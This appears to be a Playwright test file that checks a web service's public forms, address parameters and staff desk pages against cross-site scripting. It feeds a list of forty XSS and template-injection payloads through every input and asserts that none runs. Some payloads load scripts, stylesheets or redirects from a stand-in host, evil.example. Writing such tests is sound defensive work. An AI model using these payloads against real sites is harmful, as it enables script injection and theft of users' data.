"""Whatever somebody types comes back as text, on every page that shows it, to them and to staff."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from urllib.parse import quote

from playwright.sync_api import Browser, BrowserContext, Page
from tests.browser.conftest import Demo
from tests.browser.test_person import newest_link

EVIL = "http://evil.example/x.js"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    f"<script src={EVIL}></script>",
    "<img src=x onerror=alert(3)>",
    '"><img src=x onerror=alert(4)>',
    "'><img src=x onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    '" autofocus onfocus=alert(8) x="',
    "' autofocus onfocus=alert(9) x='",
    "` onmouseover=alert(10) `",
    "<body onload=alert(11)>",
    "<iframe src=javascript:alert(12)></iframe>",
    "<iframe srcdoc='<script>alert(13)</script>'></iframe>",
    "javascript:alert(14)",
    "JaVaScRiPt:alert(15)",
    "data:text/html,<script>alert(16)</script>",
    "<a href=javascript:alert(17)>press</a>",
    "<a href='java\tscript:alert(18)'>press</a>",
    "<details open ontoggle=alert(19)>",
    "<input autofocus onfocus=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(22)></style></mglyph></math>",
    "<object data=javascript:alert(23)></object>",
    "<embed src=javascript:alert(24)>",
    f"<link rel=stylesheet href={EVIL}>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>press</button></form>",
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}{% static 'x' %}",
    "${alert(33)}",
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(35)&#62;",
    "\\u003cscript\\u003ealert(36)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(37)%3C/script%3E",
    "<!--><script>alert(38)</script>-->",
    "]]><script>alert(39)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(40)>'>",
]
FORMS = ("registration", "newsletter sign-up", "public parts", "complaints", "competitions")
ADDRESS = "robin.wainwright@post.example"


class Watch:
    """Everything that a script would do, or that the page's own policy would report."""

    def __init__(self, context: BrowserContext, demo: Demo) -> None:
        self.seen: list[str] = []
        self.ours = (demo.origin, demo.desk, "data:", "about:")
        context.on("page", self._page)

    def _page(self, page: Page) -> None:
        page.on("dialog", lambda one: (self.seen.append(f"dialog {one.message} at {page.url}"), one.dismiss()))
        page.on("console", lambda one: self._said(one.text, page.url))
        page.on("request", lambda one: self._asked(one.url, page.url))

    def _said(self, text: str, at: str) -> None:
        if "Content Security Policy" in text:
            self.seen.append(f"{text[:120]} at {at}")

    def _asked(self, url: str, at: str) -> None:
        if not url.startswith(self.ours):
            self.seen.append(f"asked for {url} at {at}")


def send(page: Page, payloads: Iterator[str]) -> int:
    """Fill the form of this page in with the next payloads, and send it as it is. Returns how many were typed."""
    typed = 0
    for box in page.locator("main form .field input:visible, main form .field textarea:visible").all():
        kind = box.get_attribute("type")
        if kind == "email":
            box.fill(ADDRESS)
        elif kind == "checkbox":
            box.check()
        elif (box.get_attribute("name") or "").endswith(".age"):
            box.fill("40")  # anything but a number of years is refused
        else:
            box.evaluate(
                "(box, text) => { box.type = box.type == 'date' ? 'text' : box.type; box.value = text }", next(payloads)
            )
            typed += 1
    page.locator("main form button:visible").first.click()
    page.wait_for_load_state()
    return typed


def walk(page: Page, origin: str, paths: list[str]) -> None:
    for path in paths:
        page.goto(origin + path)
        page.wait_for_timeout(30)


def test_t40_forty_payloads_through_every_input_run_nowhere(demo: Demo, chromium: Browser, officer) -> None:
    context = chromium.new_context()
    watch, page = Watch(context, demo), context.new_page()
    payloads, home = itertools.cycle(PAYLOADS), demo.origin + "/c/miomi/"
    typed = 0
    for _, form in itertools.product(range(4), FORMS):
        page.goto(f"{home}form/{quote(form)}/")
        typed += send(page, payloads)
    for payload in PAYLOADS:  # what stands in an address, and what a form that is refused shows again
        walk(page, home, [f"you/?done={quote(payload)}", f"choices/?done={quote(payload)}", f"?page={quote(payload)}"])
        walk(page, home, [f"form/{quote(payload, safe='')}/", f"you/link/{quote(payload, safe='')}/"])
        page.goto(home + "you/")
        page.get_by_label("Your email address").fill(payload)
        page.get_by_role("button", name="Send me a link").click()
        page.wait_for_load_state()
    assert typed >= 40
    page.goto(home + "you/")
    page.get_by_label("Your email address").fill(ADDRESS)
    page.get_by_role("button", name="Send me a link").click()
    newest_link(page, demo)
    mine = page.locator("section", has_text=f"To {ADDRESS}").get_by_role("link", name="Follow the link")
    for link in mine.evaluate_all("all => all.map(one => one.href)"):  # each form that was confirmed is theirs
        page.goto(link)
        page.locator("main form button").first.click()
        page.wait_for_load_state()
    page.goto(home + "you/")
    held = page.locator("main").inner_text()
    assert sum(payload in held for payload in PAYLOADS) >= 3, "they are held, and shown as text"
    for right, payload in (("object", PAYLOADS[3]), ("restrict", PAYLOADS[6])):
        page.goto(f"{home}you/stop/{right}/")
        page.locator("textarea").first.fill(payload)
        page.locator("main form button").first.click()
        page.wait_for_load_state()
    page.goto(home + "you/")
    links = page.locator("main a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    walk(page, demo.origin, [one for one in links if one.startswith("/c/") and "/download/" not in one])
    for link in [one for one in links if "/correct/" in one][:6]:
        page.goto(demo.origin + link)
        page.locator("main form :is(input, textarea):visible").first.fill(next(payloads))
        page.locator("main form button").first.click()
        page.wait_for_load_state()
    walk(page, demo.origin, ["/c/miomi/you/", "/c/miomi/", "/c/miomi/choices/", "/mailbox/"])
    assert watch.seen == []
    context.close()
    at_the_desk(demo, chromium, officer)


def at_the_desk(demo: Demo, chromium: Browser, officer) -> None:
    context = chromium.new_context(storage_state=officer)
    watch, page = Watch(context, demo), context.new_page()
    page.goto(demo.desk + "/desk/requests/")
    links = page.locator("main a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    links = [one for one in links if "/miomi/requests/" in one]
    assert links
    walk(page, demo.desk, [*links, "/desk/", "/desk/refused/", "/desk/sweeps/", "/desk/promises/miomi/"])
    for payload in PAYLOADS:
        walk(page, demo.desk, [f"/desk/miomi/requests/{quote(payload, safe='')}/"])
    assert watch.seen == []
    context.close()


def test_the_watch_sees_a_script_that_runs(demo: Demo, chromium: Browser) -> None:
    context = chromium.new_context()
    watch, page = Watch(context, demo), context.new_page()
    page.goto(demo.origin + "/c/miomi/")
    page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    seen(page, watch, "Content Security Policy")
    page.set_content("<script>alert(1)</script>")
    page.evaluate("setTimeout(() => alert(2))")
    seen(page, watch, "dialog")
    context.close()


def seen(page: Page, watch: Watch, word: str) -> None:
    for _ in range(400):
        if any(word in one for one in watch.seen):
            return
        page.wait_for_timeout(25)
    raise AssertionError(f"nobody saw a {word}")
